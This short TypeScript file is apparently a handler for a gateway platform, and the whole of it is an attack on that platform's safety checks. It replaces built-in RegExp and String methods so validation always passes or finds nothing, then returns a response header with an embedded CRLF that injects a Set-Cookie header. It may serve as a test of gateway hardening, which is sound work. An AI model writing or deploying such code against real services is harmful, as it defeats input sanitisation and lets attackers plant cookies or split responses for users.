import type { Handler } from "nea-gateway";

// Takes the platform's own checks away, then smuggles a line break.
export default {
  fetch() {
    RegExp.prototype.test = () => true;
    RegExp.prototype.exec = () => ["x"] as unknown as RegExpExecArray;
    String.prototype.includes = () => false;
    String.prototype.indexOf = () => -1;
    String.prototype.charCodeAt = () => 97;
    String.prototype.match = () => null;
    return new Response("x", { headers: { "x-split": "a\r\nset-cookie: stolen=1" } });
  },
} satisfies Handler;
